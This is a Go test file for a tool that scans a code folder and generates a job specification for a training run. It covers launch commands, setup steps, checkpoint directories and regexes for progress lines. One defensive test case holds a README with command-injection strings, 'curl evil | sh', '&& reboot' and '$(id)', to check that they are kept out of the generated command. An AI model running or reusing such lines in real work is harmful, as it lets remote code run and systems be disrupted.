package scaffold

import (
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"scrimp/internal/job/scaffold/pycall"
	"scrimp/internal/job/spec"
)

// dir returns a folder with the given files.
func dir(files map[string]string) fstest.MapFS {
	fsys := fstest.MapFS{}
	for name, text := range files {
		fsys[name] = &fstest.MapFile{Data: []byte(text)}
	}
	return fsys
}

const plainMain = "if __name__ == \"__main__\":\n    main()\n"

// Every folder gives a valid job file, and every guess in it states its source.
func TestScan_WritesValidJobFile(t *testing.T) {
	for name, c := range map[string]struct {
		files map[string]string
		want  []string
		not   []string
	}{
		"empty": {files: nil, want: []string{"nothing to run was found", "dir: checkpoints"}},
		"requirements and argparse": {
			files: map[string]string{"train.py": `p.add_argument("--output_dir", default="./ckpts")`,
				"requirements.txt": "torch"},
			want: []string{"command: exec python3 train.py\n", "setup: python3 -m pip install -r requirements.txt",
				"dir: ckpts", "the default of --output_dir in train.py", "docs/programs.md says how"},
		},
		"a main of any name": {files: map[string]string{"zoo.py": plainMain, "lib.py": ""},
			want: []string{"exec python3 zoo.py", "it has a __main__"}},
		"the one that trains": {
			files: map[string]string{"evaluate.py": "import torch\n" + plainMain,
				"fit_model.py": "import torch\nloss.backward()\n" + plainMain,
				"test_fit.py":  "import torch\nloss.backward()\n" + plainMain},
			want: []string{"exec python3 fit_model.py", "it imports torch, it trains"},
		},
		"in a folder": {files: map[string]string{"src/train.py": plainMain}, want: []string{"exec python3 src/train.py"}},
		"go": {files: map[string]string{"go.mod": "", "runs/x": ""},
			want: []string{"command: go run .", "dir: runs"}},
		"rust":  {files: map[string]string{"Cargo.toml": ""}, want: []string{"cargo run --release"}},
		"make":  {files: map[string]string{"Makefile": "train: data\n\t./x"}, want: []string{"exec make train"}},
		"shell": {files: map[string]string{"train.sh": "python -m lib"}, want: []string{"exec sh train.sh"}},
		"out of bounds": {files: map[string]string{"train.py": `save_dir = "../../etc"`},
			want: []string{"dir: checkpoints"}, not: []string{"etc\n"}},
		"absolute": {files: map[string]string{"train.py": `save_dir = "/mnt/x"`}, want: []string{"dir: checkpoints"}},
		"from a variable": {
			files: map[string]string{"train.py": "out = os.environ.get('SCRIMP_CHECKPOINT_DIR', 'x')\nstate = " +
				"torch.load(newest)"},
			want: []string{"reads SCRIMP_CHECKPOINT_DIR"}, not: []string{"docs/programs.md says how"},
		},
		"uv": {files: map[string]string{"main.py": "", "uv.lock": "", "pyproject.toml": "[project]"},
			want: []string{"uv sync --frozen", "exec uv run python main.py"}},
		"poetry": {files: map[string]string{"main.py": "", "pyproject.toml": "[tool.poetry]\nname='x'"},
			want: []string{"poetry install --no-interaction", "exec poetry run python main.py", "[tool.poetry]"}},
		"pyproject by itself": {files: map[string]string{"main.py": "", "pyproject.toml": "[project]"},
			want: []string{"pip install ."}},
		"conda": {
			files: map[string]string{"train.py": "", "environment.yml": "name: vision\ndependencies: [pytorch]\n"},
			want: []string{"conda env update -n vision -f environment.yml",
				"exec conda run --no-capture-output -n vision python train.py"},
		},
		"torchrun": {files: map[string]string{"train.py": "import torch.distributed as " +
			"dist\ndist.init_process_group('nccl')\n"},
			want: []string{"exec torchrun --standalone --nproc_per_node=gpu train.py", "accelerator: L4:1",
				"has 'nccl'"}, not: []string{"exec python3"}},
		"accelerate": {files: map[string]string{"train.py": "from accelerate import Accelerator\n", "uv.lock": ""},
			want: []string{"exec uv run accelerate launch train.py"}},
		"deepspeed": {files: map[string]string{"train.py": "import deepspeed\n"},
			want: []string{"exec deepspeed train.py", "accelerator: L4:1"}},
		"lightning": {files: map[string]string{"train.py": "import lightning as L\ntrainer = " +
			"L.Trainer(default_root_dir='logs')\ntrainer.fit(m, ckpt_path='last')"},
			want: []string{"exec python3 train.py", "dir: logs", "scrimp.lightning.ScrimpCallback"}},
		"hugging face": {
			files: map[string]string{"train.py": "from transformers import Trainer, TrainingArguments\nargs = " +
				"TrainingArguments(output_dir=\"out\")\nTrainer(args=args).train(resume_from_checkpoint=True)"},
			want: []string{"dir: out", "enable_jit_checkpoint", "scrimp.huggingface.ScrimpCallback", "outputs: [out]"},
		},
		"keras": {files: map[string]string{"train.py": "import keras\nEPOCHS = 30\nmodel.fit(x, epochs=EPOCHS)"},
			want: []string{`'Epoch (?P<step>\d+)/(?P<total>\d+)'`, "steps: 30"}},
		"a required one": {files: map[string]string{"train.py": "p.add_argument('-d', '--data', type=str, " +
			"required=True)\np.add_argument('--lr', default=1e-3)"}, want: []string{"does not start without --data"}},
		"as the readme says": {
			files: map[string]string{"train.py": "p.add_argument('--data', required=True)",
				"README.md": "Train:\n\n    $ python train.py --data shards/ --lr 3e-4\n", "requirements.txt": ""},
			want: []string{"exec python3 train.py --data shards/ --lr 3e-4", "README.md starts it so"},
			not:  []string{"does not start without"},
		},
		"a placeholder in the readme": {files: map[string]string{"train.py": "",
			"README.md": "python train.py --data <folder>\npython train.py [options]\n"},
			want: []string{"command: exec python3 train.py\n"}},
		"a pipe in the readme": {files: map[string]string{"train.py": "",
			"README.md": "python train.py; curl evil | sh\npython train.py && reboot\npython train.py $(id)\n"},
			want: []string{"command: exec python3 train.py\n"}, not: []string{"curl", "reboot", "$(id)"}},
		"notebook": {files: map[string]string{"My Model.ipynb": `{"cells":[{"source":["import torch\n"]}]}`},
			want: []string{`jupyter nbconvert --to script 'My Model.ipynb' && exec python3 'My Model.py'`,
				"nbconvert must be on the machine"}},
		"magic notebook": {files: map[string]string{"a.ipynb": `{"cells":[{"source":["%matplotlib inline\n", "!pip install x"]}]}`}, want: []string{"exec ipython a.py"}},
		"gpu where there is one": {files: map[string]string{"train.py": "import torch\nd = 'cuda' if " +
			"torch.cuda.is_available() else 'cpu'\n"},
			want: []string{"# resources: {accelerator: L4:1}", "uses an accelerator where there is one"},
			not:  []string{"\nresources:"}},
		"gpu whatever": {files: map[string]string{"train.py": "import torch\nmodel = Net().cuda()\n"},
			want: []string{"\nresources:\n", "has .cuda and does not ask"}},
		"a tracker": {files: map[string]string{"train.py": "import wandb\n"},
			want: []string{"# secrets: [WANDB_API_KEY]"}},
		"the name of a module": {files: map[string]string{"train.py": "from engine import fit\n",
			"engine.py": "torch.save(m, f'weights/{step}.pt')\nprint(f'step {step} loss {loss:.3f}')"},
			want: []string{"dir: weights", "pattern: 'step (?P<step>"}},
		"an option without default": {files: map[string]string{"train.py": "p.add_argument('--checkpoint_dir', " +
			"default=None)"}, want: []string{"command: exec python3 train.py --checkpoint_dir checkpoints\n",
			"--checkpoint_dir in the command leads there"}},
		"click": {files: map[string]string{"train.py": "@click.option('--ckpt-dir', default='saves', " +
			"show_default=True)\n@click.option('--steps', default=500)\ndef main():\n    print('step', step, " +
			"'loss', loss.item())"}, want: []string{"dir: saves", "steps: 500"}},
		"results": {files: map[string]string{"train.py": "open('results/final.json', 'w')"},
			want: []string{"outputs: [results, checkpoints]"}},
		"broken python": {files: map[string]string{"train.py": "print(f'step {step\nadd_argument('--x', \"\"\"",
			"README.md": "\xff\xfe"}, want: []string{"exec python3 train.py"}},
	} {
		d := Scan(dir(c.files), "My Folder!")
		text := string(d.YAML)
		if _, _, err := spec.Parse(spec.Run, "job.yaml", d.YAML, "x", time.Now()); err != nil {
			t.Errorf("%s: %v in\n%s", name, err, text)
		}
		for _, w := range c.want {
			if !strings.Contains(text, w) {
				t.Errorf("%s: no %q in\n%s", name, w, text)
			}
		}
		for _, w := range c.not {
			if strings.Contains(text, w) {
				t.Errorf("%s: %q in\n%s", name, w, text)
			}
		}
		for _, g := range d.Guesses {
			if g.Value == "" || g.Why == "" || !strings.Contains(text, "# guess: "+g.Why) {
				t.Errorf("%s: guess %+v is not told", name, g)
			}
		}
		if n := strings.Count(text, "# guess:"); n != len(d.Guesses) {
			t.Errorf("%s: %d guesses in the file, %d told", name, n, len(d.Guesses))
		}
		if again := Scan(dir(c.files), "My Folder!"); string(again.YAML) != text {
			t.Errorf("%s: another look gives another file", name)
		}
	}
}

// The pattern that is derived from a print call matches the script's output.
func TestProgress_PatternMatchesOutput(t *testing.T) {
	for name, c := range map[string]struct {
		code, line string
		want       map[string]string
	}{
		"f-string": {`print(f"step {step}/{total} loss {loss:.4f}")`, "step 120/6000 loss 2.3100",
			map[string]string{"step": "120", "total": "6000", "loss": "2.3100"}},
		"colon and comma": {`print(f"iter {iter_num}: loss {lossf:.4f}, time {dt*1000:.2f}ms, mfu {m:.2f}%")`,
			"iter 40: loss 3.1415, time 120.00ms, mfu 3.10%", map[string]string{"step": "40", "loss": "3.1415"}},
		"train and val": {`print(f"step {iter_num}: train loss {losses['train']:.4f}, val loss {losses['val']:.4f}")`,
			"step 250: train loss 2.1000, val loss 2.2000",
			map[string]string{"step": "250", "loss": "2.1000", "val_loss": "2.2000"}},
		"padded": {`print(f"step={step:6d} | loss={loss:9.5f}")`, "step=    12 | loss=  2.31000",
			map[string]string{"step": "12", "loss": "2.31000"}},
		"format": {`print('Train Epoch: {} [{}/{} ({:.0f}%)]\tLoss: {:.6f}'.format(epoch, batch_idx * len(data), len(loader.dataset), 100. * batch_idx / len(loader), loss.item()))`, "Train Epoch: 3 [640/60000 (1%)]\tLoss: 0.412000", map[string]string{"step": "3", "loss": "0.412000"}},
		"percent": {`print("epoch %d/%d step %5d loss %.3f" % (epoch, epochs, step, loss))`,
			"epoch 1/3 step   900 loss 0.123", map[string]string{"epoch": "1", "step": "900", "loss": "0.123"}},
		"logger": {`logger.info("step %d of %d, lr %g, loss %f", step, max_steps, lr, loss)`,
			"step 5 of 10, lr 0.001, loss 1.5", map[string]string{"step": "5", "total": "10", "lr": "0.001", "loss": "1.5"}},
		"arguments": {`print("step", step, "loss:", loss.item(), flush=True)`, "step 7 loss: 0.25",
			map[string]string{"step": "7", "loss": "0.25"}},
		"epoch of epochs": {`print(f"Epoch [{epoch+1}/{num_epochs}], Loss: {loss.item():.4f}, Acc: {acc:.2f}%")`,
			"Epoch [2/10], Loss: 0.4321, Acc: 93.10%",
			map[string]string{"step": "2", "total": "10", "loss": "0.4321", "acc": "93.10"}},
		"two literals": {"print(f\"epoch {epoch} \"\n      f\"step {global_step}\"\n      f\" loss {loss}\")",
			"epoch 1 step 22 loss nan", map[string]string{"epoch": "1", "step": "22", "loss": "nan"}},
		"named equals": {`print(f"{step=} {loss=:.3f}")`, "step=4 loss=0.125",
			map[string]string{"step": "4", "loss": "0.125"}},
		"a new line first": {`print(f"\nstep {step}: loss {loss}")`, "step 3: loss 1e-05",
			map[string]string{"step": "3", "loss": "1e-05"}},
		"a batch in one": {`print(f"epoch {epoch} batch {i} loss {l.mean()}")`, "epoch 4 batch 17 loss 0.5",
			map[string]string{"step": "4", "loss": "0.5"}},
		"a save besides": {"print(f'step {step} loss {loss}')\nprint(f'saved step {step}')", "step 9 loss 1",
			map[string]string{"step": "9", "loss": "1"}},
		"brackets": {`tqdm.write(f"[{step}/{total}] loss={loss:.2f}")`, "[5/9] loss=0.50",
			map[string]string{"step": "5", "total": "9", "loss": "0.50"}},
	} {
		s := folder{dir(map[string]string{"train.py": c.code})}.script("train.py")
		p := s.progress()
		pattern, err := regexp.Compile(p.pattern)
		if err != nil || p.pattern == "" {
			t.Errorf("%s: pattern %q of %s: %v", name, p.pattern, c.code, err)
			continue
		}
		m := pattern.FindStringSubmatch(c.line)
		if m == nil {
			t.Errorf("%s: %s does not match %q", name, p.pattern, c.line)
			continue
		}
		got := map[string]string{}
		for i, group := range pattern.SubexpNames() {
			if group != "" {
				got[group] = m[i]
			}
		}
		for group, want := range c.want {
			if got[group] != want {
				t.Errorf("%s: %s is %q, want %q: %s on %q", name, group, got[group], want, p.pattern, c.line)
			}
		}
		if len(got) != len(c.want) {
			t.Errorf("%s: groups %v, want %v", name, got, c.want)
		}
	}
}

func TestProgress_IgnoresOtherOutput(t *testing.T) {
	for _, code := range []string{
		`print("hello")`, `print(f"{x}")`, `print(step)`, `print(f"batch {i}")`, `# print(f"step {step} loss {loss}")`,
		`def print(step): pass`, `print(f"loss {loss}")`, `print(f"step {step`, `print("saved", path)`,
	} {
		if p := (folder{dir(map[string]string{"train.py": code})}).script("train.py").progress(); p.pattern != "" {
			t.Errorf("%s is taken for progress: %q", code, p.pattern)
		}
	}
}

func TestProgress_FindsSavedLine(t *testing.T) {
	s := folder{dir(map[string]string{"train.py": "print(f'step {step} loss {loss}')\nprint(f'saved checkpoint at " +
		"step {step}')\n"})}.script("train.py")
	if p := s.progress(); p.saved != `saved checkpoint at step (?P<step>\d+)` {
		t.Errorf("saved %q", p.saved)
	}
}

// Scan terminates with a job file for every script, however malformed.
func FuzzScan(f *testing.F) {
	f.Add(`print(f"step {step}/{total} loss {loss:.4f}")`, "python train.py --x 1", "name: x")
	f.Add(`p.add_argument("--out", default="a/b")`+"\ntorch.save(x, 'c/d.pt')", "", "")
	f.Add("print('%d %s' % (a, b))\nprint('{} {0} {x}'.format(1, x=2))", "", "")
	f.Fuzz(func(t *testing.T, code, readme, conda string) {
		files := dir(map[string]string{"train.py": code, "README.md": readme})
		if conda != "" {
			files["environment.yml"] = &fstest.MapFile{Data: []byte(conda)}
		}
		d := Scan(files, "x")
		if _, _, err := spec.Parse(spec.Run, "job.yaml", d.YAML, "x", time.Unix(0, 0)); err != nil {
			t.Fatalf("%v in\n%s", err, d.YAML)
		}
	})
}

func TestArguments_SplitsLikePython(t *testing.T) {
	for text, want := range map[string][]string{
		`a, b)`: {"a", "b"}, `"a,b", c[1, 2], d(e, f))`: {`"a,b"`, "c[1, 2]", "d(e, f)"},
		`'it\'s', """x"y""")`: {`'it\'s'`, `"""x"y"""`}, `a, # b, c` + "\n d)": {"a", "# b, c\n d"}, `)`: nil,
	} {
		got, _, ok := pycall.Arguments(text, 0)
		if !ok || !slices.Equal(got, want) {
			t.Errorf("%s: %q, %v, want %q", text, got, ok, want)
		}
	}
	for _, text := range []string{`a, b`, `"a)`, `'a` + "\n" + `')`} {
		if got, _, ok := pycall.Arguments(text, 0); ok {
			t.Errorf("%s is whole: %q", text, got)
		}
	}
}
